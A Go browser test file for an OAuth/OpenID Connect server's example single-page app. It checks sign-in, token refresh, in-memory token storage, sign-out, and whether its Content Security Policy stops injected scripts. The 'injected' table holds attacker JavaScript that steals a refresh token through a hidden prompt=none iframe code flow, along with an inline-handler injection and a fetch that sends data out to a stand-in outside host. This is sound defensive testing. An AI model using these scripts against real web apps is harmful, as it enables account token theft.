package spa_test

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	resourceserver "github.com/latchkey/latchkey/clients/resource-server"
	"github.com/latchkey/latchkey/internal/config"
	"github.com/latchkey/latchkey/internal/lktest"
	"github.com/latchkey/latchkey/internal/secrets"
	"github.com/latchkey/latchkey/internal/store"
)

func need(t *testing.T, path, why string) {
	if _, err := os.Stat(path); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("%s is missing: %s", path, why)
		}
		t.Skipf("%s is missing: %s", path, why)
	}
}

func origin(s *httptest.Server) string {
	a := s.Listener.Addr().String()
	return "http://localhost:" + a[strings.LastIndexByte(a, ':')+1:]
}

// contentSecurityPolicy is the header the SPA's host sends (the README shows
// it): scripts from the app's origin only, no inline script, no frames, and
// connections only to the app itself, the issuer and the API. index.html
// carries the part that does not depend on where Latchkey and the API are.
func contentSecurityPolicy(issuer, api string) string {
	return "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; " +
		"connect-src 'self' " + issuer + " " + api + "; " +
		"frame-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'"
}

// scope is what the SPA registers and asks for: OpenID Connect sign-in
// with the person's name and email, the API, and a refresh token.
const scope = "openid profile email invoices:read offline_access"

// spa is the example app served on http://localhost (same site as the
// issuer, as an app and its Latchkey often are), its Latchkey, its API and
// a browser.
type spa struct {
	browser  context.Context
	lk       *lktest.Server
	origin   string
	clientID string
	// boundCalls counts API calls made with a DPoP-bound token.
	boundCalls *atomic.Int64
}

func startSPA(t *testing.T) *spa {
	t.Helper()
	browser := lktest.Browser(t, 90*time.Second)
	need(t, "dist/app.js", "build it with `npm ci && npm run build` in clients/spa (.ci/run does)")

	app := httptest.NewUnstartedServer(nil)
	appOrigin := origin(app)
	lk := lktest.Start(t, nil, func(c *config.Config) { c.CORSOrigins = appOrigin })

	// The API takes bearer and DPoP-bound tokens, and demands its own
	// nonce in proofs, so that the SPA's use_dpop_nonce retry runs.
	api := httptest.NewUnstartedServer(nil)
	v, err := resourceserver.New(resourceserver.Config{Issuer: lk.Issuer, Audience: "https://api.example.com",
		ExternalURL: "http://" + api.Listener.Addr().String(), DPoPNonce: true})
	if err != nil {
		t.Fatal(err)
	}
	boundCalls := &atomic.Int64{}
	protected := v.Middleware("invoices:read")(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, _ := resourceserver.FromContext(r.Context())
		if c.JKT != "" {
			boundCalls.Add(1)
		}
		_, _ = w.Write([]byte(`{"caller":"` + c.Subject + `","invoices":["INV-1"]}`))
	}))
	api.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", appOrigin)
		w.Header().Set("Access-Control-Allow-Headers", "Authorization, DPoP")
		w.Header().Set("Access-Control-Expose-Headers", "WWW-Authenticate, DPoP-Nonce")
		if r.Method == http.MethodOptions {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		protected.ServeHTTP(w, r)
	})
	api.Start()
	t.Cleanup(api.Close)

	// Not trusted, as the README registers it: a public client in a browser
	// gets the consent screen like any third party (issue 12 item 7).
	client := lk.AdminPost("/admin/clients", map[string]any{"client_name": "SPA", "token_endpoint_auth_method": "none",
		"grant_types": []string{"authorization_code", "refresh_token"}, "redirect_uris": []string{appOrigin + "/"},
		"post_logout_redirect_uris": []string{appOrigin + "/"},
		"scope":                     scope, "audience": []string{"https://api.example.com"}})
	hash, _ := secrets.HashPassword("pia-password-1", secrets.Argon2Params{Memory: 1024, Iterations: 1, Parallelism: 1, SaltLen: 16, KeyLen: 32})
	if err := lk.Store.CreateUser(context.Background(), &store.User{ID: "user-pia", Username: "pia", PasswordHash: hash,
		Name: "Pia Ramos", Email: "pia@example.com", EmailVerified: true}); err != nil {
		t.Fatal(err)
	}
	cfg, _ := json.Marshal(map[string]any{"issuer": lk.Issuer, "client_id": client["client_id"].(string),
		"redirect_uri": appOrigin + "/", "scope": scope, "api": api.URL + "/invoices", "expose_tokens_for_tests": true})
	csp := contentSecurityPolicy(lk.Issuer, api.URL)
	files := http.FileServer(http.Dir("dist"))
	app.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Security-Policy", csp)
		if r.URL.Path == "/config.json" {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(cfg)
			return
		}
		files.ServeHTTP(w, r)
	})
	app.Start()
	t.Cleanup(app.Close)
	return &spa{browser: browser, lk: lk, origin: appOrigin, clientID: client["client_id"].(string), boundCalls: boundCalls}
}

func (s *spa) waitText(t *testing.T, id, want string) string {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	var got string
	for time.Now().Before(deadline) {
		got, _ = chromedp.Run(s.browser, chromedp.Text(chromedp.ID(id)))
		if strings.Contains(got, want) {
			return got
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("#%s never showed %q; it shows %q", id, want, got)
	return ""
}

// signIn opens the app, which finds no session silently, and signs in,
// allowing the consent the first time.
func (s *spa) signIn(t *testing.T) {
	t.Helper()
	if err := chromedp.Do(s.browser, chromedp.Navigate(s.origin+"/")); err != nil {
		t.Fatal(err)
	}
	s.waitText(t, "status", "login_required") // the silent attempt found no session
	err := chromedp.Do(s.browser,
		chromedp.Click(chromedp.CSS(`#login`)),
		chromedp.WaitVisible(chromedp.CSS(`input[name=username]`)),
		chromedp.SendKeys(chromedp.CSS(`input[name=username]`), "pia"),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), "pia-password-1"),
		chromedp.Click(chromedp.CSS(`button[type=submit]`)),
		chromedp.WaitVisible(chromedp.CSS(`button[name=consent][value=allow]`)),
		chromedp.Click(chromedp.CSS(`button[name=consent][value=allow]`)),
	)
	if err != nil {
		t.Fatalf("sign in: %v", err)
	}
	s.waitText(t, "status", "Signed in as Pia Ramos") // the name, from the validated ID token
	s.waitText(t, "email", "pia@example.com")
}

// The SPA in real Chromium: a silent attempt that finds no session, an
// OpenID Connect sign-in that shows the person's name and email, an API
// call, a refresh with rotation (and a new ID token), nothing in web
// storage, after a reload a silent sign-in with prompt=none, and a sign-out
// through the end_session_endpoint after which "Sign in" shows Latchkey's
// login page again.
func TestSPAInBrowser(t *testing.T) {
	s := startSPA(t)
	browser, lk := s.browser, s.lk
	waitText := func(id, want string) string { t.Helper(); return s.waitText(t, id, want) }
	s.signIn(t)

	if err := chromedp.Do(browser, chromedp.Click(chromedp.CSS(`#call`))); err != nil {
		t.Fatal(err)
	}
	waitText("result", `200 {"caller":"user-pia"`)
	if err := chromedp.Do(browser, chromedp.Click(chromedp.CSS(`#refresh`))); err != nil {
		t.Fatal(err)
	}
	waitText("rotations", "rotations: 1")
	waitText("status", "Signed in as Pia Ramos")

	stored, err := chromedp.Run(browser, chromedp.Evaluate[string](`localStorage.length + "|" + sessionStorage.length + "|" + document.cookie`))
	if err != nil || stored != "0|0|" {
		t.Fatalf("web storage or cookies hold %q (%v); tokens must stay in memory", stored, err)
	}

	// A reload forgets the tokens; prompt=none gets new ones silently.
	if err := chromedp.Do(browser, chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	waitText("status", "Signed in as Pia Ramos")

	// Sign out at the end_session_endpoint with id_token_hint: the refresh
	// token is revoked, the Latchkey session ends without a confirmation
	// page (the hint names the session), and Latchkey sends the browser
	// back with the app's state.
	if err := chromedp.Do(browser, chromedp.Click(chromedp.CSS(`#logout`))); err != nil {
		t.Fatalf("sign out: %v", err)
	}
	waitText("status", "Signed out")
	if live, err := lk.Store.ActiveRefreshTokensOf(context.Background(), "user-pia"); err != nil || live != 0 {
		t.Fatalf("%d refresh tokens still work after sign-out (%v)", live, err)
	}
	// The Latchkey session is over: "Sign in" asks for the password again.
	err = chromedp.Do(browser,
		chromedp.Click(chromedp.CSS(`#login`)),
		chromedp.WaitVisible(chromedp.CSS(`input[name=username]`)),
	)
	if err != nil {
		t.Fatalf("after sign-out, Sign in did not show the login page: %v", err)
	}
}

// injected are scripts an attacker got into the SPA's origin. Each returns
// what it achieved.
var injected = []struct {
	name, script, want string
}{
	// Issue 12 item 7: with the user signed in at Latchkey, run a code flow
	// of its own with prompt=none in a hidden same-origin iframe, read the
	// code from the iframe's URL and redeem it for a refresh token usable
	// from anywhere. Tokens in memory do not stop this; the CSP's frame-src
	// (and frame-ancestors on the redirect target) does.
	{"silent code flow in a hidden iframe", `(async () => {
  const b64 = (b) => btoa(String.fromCharCode(...new Uint8Array(b))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
  const verifier = b64(crypto.getRandomValues(new Uint8Array(32)));
  const challenge = b64(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
  const u = new URL(ISSUER + "/oauth2/authorize");
  for (const [k, v] of Object.entries({ client_id: CLIENT_ID, redirect_uri: REDIRECT_URI, response_type: "code",
      scope: "invoices:read offline_access", state: b64(crypto.getRandomValues(new Uint8Array(16))), code_challenge: challenge, code_challenge_method: "S256", prompt: "none" })) {
    u.searchParams.set(k, v);
  }
  const f = document.createElement("iframe");
  f.style.display = "none";
  f.src = u.href;
  document.body.appendChild(f);
  const code = await new Promise((resolve) => {
    let n = 0;
    const poll = setInterval(() => {
      let found = null;
      try { found = new URL(f.contentWindow.location.href).searchParams.get("code"); } catch {}
      if (found || ++n > 500) { clearInterval(poll); resolve(found); }
    }, 5);
  });
  f.remove();
  if (!code) return "no code";
  const r = await fetch(ISSUER + "/oauth2/token", { method: "POST", body: new URLSearchParams({ grant_type: "authorization_code",
    code, redirect_uri: REDIRECT_URI, client_id: CLIENT_ID, code_verifier: verifier }) });
  const j = await r.json();
  return j.refresh_token ? "stole a refresh token" : "code but no token: " + JSON.stringify(j);
})()`, "no code"},
	// HTML injection: an inline event handler is script the CSP refuses.
	{"inline event handler", `new Promise((resolve) => {
  window.ran = false;
  const img = document.createElement("img");
  img.setAttribute("onerror", "window.ran = true");
  img.addEventListener("error", () => resolve(window.ran ? "ran" : "blocked"));
  img.src = "/missing.png";
  document.body.appendChild(img);
})`, "blocked"},
	// Exfiltration with fetch to a host that is neither the issuer nor the
	// API (Latchkey's admin listener stands in for the attacker's server).
	{"fetch to another origin", `fetch(ELSEWHERE, { method: "POST", mode: "no-cors", body: "token" }).then(() => "sent", () => "blocked")`, "blocked"},
}

// Issue 12 item 7: what a script injected into the SPA's origin can do
// while the user is signed in, against the CSP the SPA is served with.
// Scripts run through DevTools, as if the CSP's first line (no script but
// the app's own) had already failed.
func TestInjectedScriptUnderCSP(t *testing.T) {
	s := startSPA(t)
	s.signIn(t)
	replacer := strings.NewReplacer("ISSUER", jsString(s.lk.Issuer), "CLIENT_ID", jsString(s.clientID), "REDIRECT_URI", jsString(s.origin+"/"),
		"ELSEWHERE", jsString(s.lk.Admin.URL+"/collect"))
	for _, tc := range injected {
		t.Run(tc.name, func(t *testing.T) {
			got, err := chromedp.Run(s.browser, chromedp.Evaluate[string](replacer.Replace(tc.script), chromedp.EvalAwaitPromise))
			if err != nil {
				t.Fatal(err)
			}
			if got != tc.want {
				t.Fatalf("the injected script: %q, want %q", got, tc.want)
			}
		})
	}
	if live, err := s.lk.Store.ActiveRefreshTokensOf(context.Background(), "user-pia"); err != nil || live != 1 {
		t.Fatalf("%d live refresh tokens, want only the app's own (%v)", live, err)
	}
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
